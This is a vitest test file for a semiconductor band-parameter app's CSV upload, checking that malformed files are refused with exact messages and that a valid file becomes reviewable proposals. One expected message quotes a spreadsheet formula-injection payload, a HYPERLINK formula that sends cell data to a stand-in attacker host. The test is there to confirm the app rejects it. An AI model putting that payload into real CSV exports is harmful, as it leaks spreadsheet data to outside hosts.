import { existsSync, mkdtempSync, readdirSync, readFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeDb } from "~/.server/db/client";
import { attachments, auditLog, csvBatches, notices, proposals, users } from "~/.server/db/schema";
import { startSink, type Sink } from "~/.server/mail/sink";
import { loadUser, type CurrentUser } from "~/.server/permissions";
import { readStoredFile } from "~/.server/storage";
import { submitCsvBatch } from "~/.server/workflow/csv-batches";
import { decideProposal } from "~/.server/workflow/decide";
import { describeCsvIssue, MAX_CSV_BYTES, MAX_CSV_ROWS } from "~/domain/csv-proposals";
import { loadDemo } from "../../seed-data/load";
import { tableChecksums } from "../support/checksums";
import { freshDatabase, type TestDatabase } from "../support/db";

// The corpus values are [V01] (Vurgaftman, Meyer, Ram-Mohan, J. Appl. Phys. 89, 5815 (2001), from memory) and
// values calculated from it ([Var67] Varshni, Physica 34, 149 (1967); [Vegard21] Vegard, Z. Phys. 5, 17 (1921)).
const CORPUS = path.join("tests", "fixtures", "csv");
const HEADER = "material,quantity,temperature_k,valley,composition_x,value,unit,uncertainty,method,source,source_title,locator,notes";
const ROW = "GaAs,lattice_a,300,,,5.65325,Å,,compilation,10.1063/1.1368156,Band parameters for III-V compound semiconductors and their alloys,GaAs parameter table,";

let t: TestDatabase;
let sink: Sink;
let dataDir: string;
let tomas: CurrentUser;

function messagesOf(result: Awaited<ReturnType<typeof submitCsvBatch>>): string[] {
  if (result.ok) return [];
  return [...result.check.fileErrors, ...result.check.rows.flatMap((r) => r.errors.map(describeCsvIssue))];
}

beforeAll(async () => {
  t = await freshDatabase("csvupload");
  sink = await startSink({ port: 0, dir: mkdtempSync(path.join(os.tmpdir(), "bl-csv-mail-")) });
  dataDir = mkdtempSync(path.join(os.tmpdir(), "bl-csv-data-"));
  process.env.DATABASE_URL = t.url;
  process.env.SMTP_URL = `smtp://127.0.0.1:${sink.port}`;
  process.env.BANDLEDGER_PUBLIC_URL = "http://bandledger.test";
  process.env.SESSION_SECRET = "csv-test-session-secret-0123456789abcdef0123";
  process.env.BANDLEDGER_DATA_DIR = dataDir;
  await loadDemo(t.db);
  const [u] = await t.db.select().from(users).where(eq(users.email, "tomas.okafor@kestrel-devices.test"));
  tomas = (await loadUser(u.id))!;
});
afterAll(async () => {
  await closeDb();
  await sink?.close();
  await t?.drop();
});

// Each broken file, with the message it must be refused with.
const BROKEN: [file: string, message: string][] = [
  ["wrong-header.csv", "Column 1 “mat” is not a column Bandledger reads."],
  ["wrong-header.csv", "The column “method” is missing (measured, calculated, fitted or compilation)."],
  ["unknown-material.csv", "Row 2, column “material”: “InSb” is not a material in the ledger."],
  ["unknown-quantity.csv", "Row 2, column “quantity”: “bandgap_width” is not a quantity in the catalogue."],
  ["bad-units.csv", "Row 2, column “unit”: “mV” is not accepted here; use eV, meV, µeV."],
  ["bad-numbers.csv", "Row 2, column “value”: Use a point as the decimal separator, without thousands separators."],
  ["bad-numbers.csv", "Row 3, column “value”: “5.653.25” is not a decimal number."],
  ["duplicate-rows.csv", "Row 3: Same material, quantity and conditions as row 2: one upload proposes one value per record."],
  ["empty.csv", "The file is empty."],
  ["header-only.csv", "The file has a header but no rows of values."],
  ["not-utf8-latin1.csv", "The file is not UTF-8: byte 147 (on line 2) is 0xC5. Save it as “CSV UTF-8” and upload it again."],
  ["utf16.csv", "The file is saved as UTF-16 or UTF-32; save it as “CSV UTF-8” and upload it again."],
  ["formula-cells.csv", "Row 3, column “notes”: “=HYPERLINK(\"http://attacker.test/?\"&A1,\"…” starts with “=” and a spreadsheet would run it as a formula"],
  ["ragged-row.csv", "Row 2: The row has 6 cells where the header has 13; check the comma delimiters and the quotes."],
  ["unclosed-quote.csv", "Row 2: A quoted cell is not closed, or a quote stands inside an unquoted cell."],
];

describe("the corpus of broken CSV files", () => {
  it.each(BROKEN)("refuses %s with its message and writes nothing", async (file, message) => {
    const before = await tableChecksums(t.pool, t.name);
    const result = await submitCsvBatch(tomas, file, new Uint8Array(readFileSync(path.join(CORPUS, file))));
    expect(result.ok).toBe(false);
    expect(messagesOf(result).some((m) => m.startsWith(message)), messagesOf(result).join("\n")).toBe(true);
    expect(await tableChecksums(t.pool, t.name)).toEqual(before);
    expect(existsSync(path.join(dataDir, "files"))).toBe(false);
  });

  it("refuses a file over the size limit", async () => {
    const bytes = Buffer.alloc(MAX_CSV_BYTES + 1, "a");
    Buffer.from(HEADER + "\n").copy(bytes);
    const before = await tableChecksums(t.pool, t.name);
    const result = await submitCsvBatch(tomas, "huge.csv", new Uint8Array(bytes));
    expect(messagesOf(result)).toEqual(["The file is 2.0 MB; an upload may have at most 2.0 MB. Split it into several files."]);
    expect(await tableChecksums(t.pool, t.name)).toEqual(before);
  });

  it("refuses a file over the row limit", async () => {
    const rows = Array.from({ length: MAX_CSV_ROWS + 1 }, (_, i) => ROW.replace(",300,", `,${i + 1},`));
    const before = await tableChecksums(t.pool, t.name);
    const result = await submitCsvBatch(tomas, "many.csv", new TextEncoder().encode([HEADER, ...rows].join("\n")));
    expect(messagesOf(result)).toEqual([`The file has ${MAX_CSV_ROWS + 1} rows of values; one upload takes at most ${MAX_CSV_ROWS}. Split it into several files.`]);
    expect(await tableChecksums(t.pool, t.name)).toEqual(before);
  });

  it("refuses the whole file when one row of many is wrong", async () => {
    const rows = Array.from({ length: 300 }, (_, i) => ROW.replace(",300,", `,${i + 1},`));
    rows[250] = rows[250].replace("5.65325", "5.65325 Å");
    const before = await tableChecksums(t.pool, t.name);
    const result = await submitCsvBatch(tomas, "one-bad.csv", new TextEncoder().encode([HEADER, ...rows].join("\n")));
    expect(messagesOf(result)).toEqual(["Row 252, column “value”: “5.65325 Å” is not a decimal number."]);
    expect(await tableChecksums(t.pool, t.name)).toEqual(before);
  });
});

describe("a good CSV", () => {
  it("becomes one batch of submitted proposals in one go, with the uploaded file kept byte for byte", async () => {
    const bytes = new Uint8Array(readFileSync(path.join(CORPUS, "good-bom-semicolon.csv")));
    const result = await submitCsvBatch(tomas, "good-bom-semicolon.csv", bytes);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const rows = await t.db.select().from(proposals).where(eq(proposals.batchId, result.batchId));
    expect(rows.map((r) => [r.kind, r.state, r.proposedValue, r.proposedUnit])).toEqual([
      ["revision", "submitted", "1.42248", "eV"],
      ["new_record", "submitted", "5.655605", "Å"],
      ["revision", "submitted", "6.0959", "Å"],
    ]);
    const [batch] = await t.db.select().from(csvBatches).where(eq(csvBatches.id, result.batchId));
    expect(batch).toMatchObject({ authorId: tomas.id, fileName: "good-bom-semicolon.csv", rowCount: 3 });
    const [file] = await t.db.select().from(attachments).where(eq(attachments.batchId, result.batchId));
    expect(file.sha256).toBe(batch.sha256);
    expect(Buffer.compare(await readStoredFile(batch.sha256), Buffer.from(bytes))).toBe(0);
    expect(readdirSync(path.join(dataDir, "files", batch.sha256.slice(0, 2)))).toEqual([batch.sha256]);
    const [audit] = await t.db.select().from(auditLog).where(and(eq(auditLog.action, "proposal.upload"), eq(auditLog.targetType, "csv_batch")));
    expect(audit).toMatchObject({ actorId: tomas.id, targetId: String(result.batchId), detail: expect.objectContaining({ sha256: batch.sha256, rows: 3 }) });
    const batchNotices = await t.db.select().from(notices).where(eq(notices.kind, "proposal.batch"));
    expect(batchNotices.map((n) => n.subject).sort()).toEqual([
      "Antimonides: 1 proposal waits for your decision (from good-bom-semicolon.csv)",
      "Arsenides: 2 proposals wait for your decision (from good-bom-semicolon.csv)",
      "Arsenides: 2 proposals wait for your decision (from good-bom-semicolon.csv)",
    ]);
  });

  it("gives proposals that a lead approves like any other", async () => {
    const [row] = await t.db.select().from(proposals).where(eq(proposals.proposedValue, "5.655605"));
    const [ravi] = await t.db.select().from(users).where(eq(users.email, "ravi.menon@kestrel-devices.test"));
    const done = await decideProposal((await loadUser(ravi.id))!, row.id, { decision: "approve", version: row.version });
    expect(done.state).toBe("approved");
    expect(done.recordId).not.toBeNull();
  });
});
